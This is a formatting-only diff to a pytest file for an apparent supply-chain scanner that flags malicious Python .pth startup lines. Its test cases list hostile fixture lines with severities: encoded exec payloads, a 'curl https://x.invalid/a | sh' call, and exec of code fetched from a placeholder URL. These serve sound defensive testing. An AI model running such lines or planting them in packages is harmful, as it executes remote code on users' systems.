@@ -9,10 +9,10 @@ import pytest
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "rules"))
 
-from fixtures_pth import LEGITIMATE, LITELLM_LINE, DictArtifact, write_wheel  # noqa: E402
+from fixtures_pth import LEGITIMATE, LITELLM_LINE, DictArtifact, write_wheel
 
-from chainwarden.analyzers.base import ArtifactView  # noqa: E402
-from chainwarden.analyzers.pth import (  # noqa: E402
+from chainwarden.analyzers.base import ArtifactView
+from chainwarden.analyzers.pth import (
     VERSIONS,
     PthAnalyzer,
     extract_pth,
@@ -20,7 +20,7 @@ from chainwarden.analyzers.pth import (  # noqa: E402
     read_modern,
     startup_modules,
 )
-from chainwarden.models import ArtifactKind, Finding, Severity, Trigger  # noqa: E402
+from chainwarden.models import ArtifactKind, Finding, Severity, Trigger
 
 ANALYZER = PthAnalyzer()
 
@@ -54,7 +54,9 @@ def test_universal_newlines_are_the_same_everywhere() -> None:
     data = b"a\r\nimport os\rb\nimport sys"
     _, legacy = read_legacy(data)
     _, modern = read_modern(data)
-    assert [ln.text.rstrip("\n") for ln in legacy] == [ln.text for ln in modern] == ["a", "import os", "b", "import sys"]
+    assert (
+        [ln.text.rstrip("\n") for ln in legacy] == [ln.text for ln in modern] == ["a", "import os", "b", "import sys"]
+    )
     assert [ln.physical for ln in legacy] == [ln.physical for ln in modern] == [1, 2, 3, 4]
 
 
@@ -151,7 +153,10 @@ def test_pth_that_site_never_reads_is_ignored(path: str) -> None:
     ("line", "severity"),
     [
         (b"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))", Severity.CRITICAL),
-        (b"import zlib, base64; exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC8GAA6wA5o=')))", Severity.CRITICAL),
+        (
+            b"import zlib, base64; exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC8GAA6wA5o=')))",
+            Severity.CRITICAL,
+        ),
         (b"import os; os.system('curl https://x.invalid/a | sh')", Severity.CRITICAL),
         (b"import urllib.request as u; exec(u.urlopen('https://x.invalid').read())", Severity.CRITICAL),
         (b"import subprocess; subprocess.run(['id'])", Severity.HIGH),
@@ -241,7 +246,7 @@ def test_hostile_bytes_never_raise() -> None:
 def test_engine_round_trips_the_facts_through_the_cache(tmp_path: Path) -> None:
     from fixtures_pth import open_fixture
 
-    from chainwarden.engine import ScanOptions, Scanner
+    from chainwarden.engine import Scanner, ScanOptions
 
     wheel = write_wheel(tmp_path, "demo", {"litellm_init.pth": b"# x\x0c" + LITELLM_LINE})
     options = ScanOptions(jobs=1, cache_dir=tmp_path / "cache")
